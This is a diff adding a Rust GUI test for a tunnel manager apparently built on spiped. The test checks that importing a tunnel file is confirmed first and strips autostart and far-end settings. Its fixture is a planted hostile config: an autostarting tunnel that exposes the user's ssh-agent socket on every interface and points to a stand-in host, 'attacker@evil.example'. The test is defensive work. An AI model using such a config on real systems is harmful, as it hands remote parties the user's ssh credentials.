@@ -417,3 +417,161 @@ fn test_connection_reports_ok_and_wrong_key_in_words() {
     assert!(shows(&harness, "Rejected"), "wrong key is rejected");
     assert!(shows(&harness, "different key"));
 }
+
+/// A tunnel file as a hostile sender would write it: a tunnel that starts by itself,
+/// listens on every interface and forwards to the user's ssh agent, with a far-end record
+/// that pre-fills where "Set up" sends the key; and a harmless one on loopback.
+fn planted_tunnel_file(fingerprint: Option<&str>, exposed: u16, local: u16) -> String {
+    let fingerprint = fingerprint.map_or("None".to_owned(), |f| format!("Some({f:?})"));
+    format!(
+        r#"(
+    version: 1,
+    tunnels: [
+        (
+            key: (name: "mine", fingerprint: {fingerprint}),
+            tunnel: (
+                name: "agent",
+                mode: Decrypt,
+                listen: "[0.0.0.0]:{exposed}",
+                target: "/run/user/1000/ssh-agent.socket",
+                key: File("/home/attacker/agent.key"),
+                autostart: true,
+                far_end: Some((ssh: "attacker@evil.example", far_address: "[127.0.0.1]:22")),
+            ),
+        ),
+        (
+            key: (name: "mine", fingerprint: {fingerprint}),
+            tunnel: (
+                name: "web",
+                mode: Encrypt,
+                listen: "[127.0.0.1]:{local}",
+                target: "[127.0.0.1]:8025",
+                key: Keychain("mine"),
+            ),
+        ),
+    ],
+)"#
+    )
+}
+
+fn import_through_the_menu(
+    harness: &mut egui_kittest::Harness<'_, sluice::SluiceApp>,
+    dialogs: &ScriptedDialogs,
+    file: &std::path::Path,
+) {
+    dialogs.answer(DialogAnswer::Picked(file.to_owned()));
+    click(harness, "Menu");
+    click(harness, "Import tunnels…");
+}
+
+#[test]
+fn an_import_is_confirmed_first_and_plants_nothing_that_starts_or_reaches_out() {
+    let dir = tempfile::tempdir().unwrap();
+    let dialogs = Arc::new(ScriptedDialogs::default());
+    let mut harness = app_harness(services(dir.path(), mock_keychain(), dialogs.clone()));
+    harness.run_ok();
+    generate_key_through_the_ui(&mut harness, "mine");
+    click(&mut harness, "✖"); // the "generated" notice
+    harness.get_by_label("Close window").click();
+    harness.run_ok();
+    let keys_file = dir.path().join("keys.ron");
+    wait_until(&mut harness, "the key list on disk", |_| {
+        std::fs::read_to_string(&keys_file).is_ok_and(|t| t.contains("mine"))
+    });
+    let fingerprint = harness
+        .state()
+        .model
+        .keys
+        .get("mine")
+        .unwrap()
+        .fingerprint
+        .clone();
+    let exposed = free_port();
+    let local = free_port();
+    let config = dir.path().join("config.ron");
+    let keys_before = std::fs::read_to_string(&keys_file).unwrap();
+
+    // Without fingerprints the key is not bound by its name: the key is named, nothing
+    // is shown for confirmation, nothing is imported.
+    let file = dir.path().join("tunnels.ron");
+    std::fs::write(&file, planted_tunnel_file(None, exposed, local)).unwrap();
+    import_through_the_menu(&mut harness, &dialogs, &file);
+    wait_until(&mut harness, "the refusal naming the key", |app| {
+        app.model
+            .notices
+            .iter()
+            .any(|n| n.error && n.text.contains("\"mine\" (the file gives no fingerprint"))
+    });
+    assert!(harness.state().view.import_review.is_none());
+    assert!(harness.state().model.tunnels.is_empty());
+    click(&mut harness, "✖");
+
+    // With them, the confirmation lists what would be added, marked where it reaches
+    // beyond loopback.
+    std::fs::write(
+        &file,
+        planted_tunnel_file(Some(&fingerprint), exposed, local),
+    )
+    .unwrap();
+    import_through_the_menu(&mut harness, &dialogs, &file);
+    wait_until(&mut harness, "the confirmation", |app| {
+        app.view.import_review.is_some()
+    });
+    assert!(shows(&harness, "Import 2 tunnel(s) from tunnels.ron?"));
+    for text in [
+        "agent",
+        "Decrypt (spiped -d)",
+        &format!("[0.0.0.0]:{exposed}"),
+        "/run/user/1000/ssh-agent.socket",
+        "web",
+        "Encrypt (spiped -e)",
+        &format!("[127.0.0.1]:{local}"),
+        "[127.0.0.1]:8025",
+    ] {
+        assert!(shows(&harness, text), "the confirmation shows {text}");
+    }
+    assert_eq!(
+        harness
+            .query_all_by_label("⚠ not loopback: other machines can connect")
+            .count(),
+        1,
+        "the listen address on every interface is marked, the loopback ones are not"
+    );
+    assert_eq!(
+        harness
+            .query_all_by_label("⚠ UNIX socket: a local service, such as an ssh agent")
+            .count(),
+        1,
+        "the UNIX-socket target is marked as such"
+    );
+    assert_eq!(harness.query_all_by_label_contains("⚠").count(), 2);
+    assert!(shows(&harness, "1 marked to start with Sluice in the file"));
+    assert!(shows(&harness, "1 named a far end set up over ssh"));
+
+    // Cancel changes nothing.
+    click(&mut harness, "Cancel");
+    assert!(harness.state().view.import_review.is_none());
+    assert!(!shows(&harness, "Import 2 tunnel(s)"), "the dialog is gone");
+    assert!(harness.state().model.tunnels.is_empty());
+    assert!(!config.exists(), "no config was written");
+    assert_eq!(std::fs::read_to_string(&keys_file).unwrap(), keys_before);
+
+    // Import adds both, bound to the key of that fingerprint, stopped, without the far end.
+    import_through_the_menu(&mut harness, &dialogs, &file);
+    wait_until(&mut harness, "the confirmation", |app| {
+        app.view.import_review.is_some()
+    });
+    click(&mut harness, "Import");
+    wait_until(&mut harness, "the imported tunnels, saved", |app| {
+        app.model.tunnels.len() == 2 && Config::load(&config).is_ok_and(|c| c.tunnels.len() == 2)
+    });
+    let saved = Config::load(&config).unwrap();
+    for spec in &saved.tunnels {
+        assert!(!spec.autostart, "{} starts by itself", spec.name);
+        assert_eq!(spec.far_end, None, "{} keeps a far end", spec.name);
+        assert_eq!(spec.key, KeyRef::Keychain("mine".into()));
+        assert_eq!(spec.fingerprint.as_deref(), Some(fingerprint.as_str()));
+    }
+    assert!(!harness.state().model.any_running(), "nothing was started");
+    std::net::TcpListener::bind(("0.0.0.0", exposed)).expect("nothing listens on the exposed port");
+}
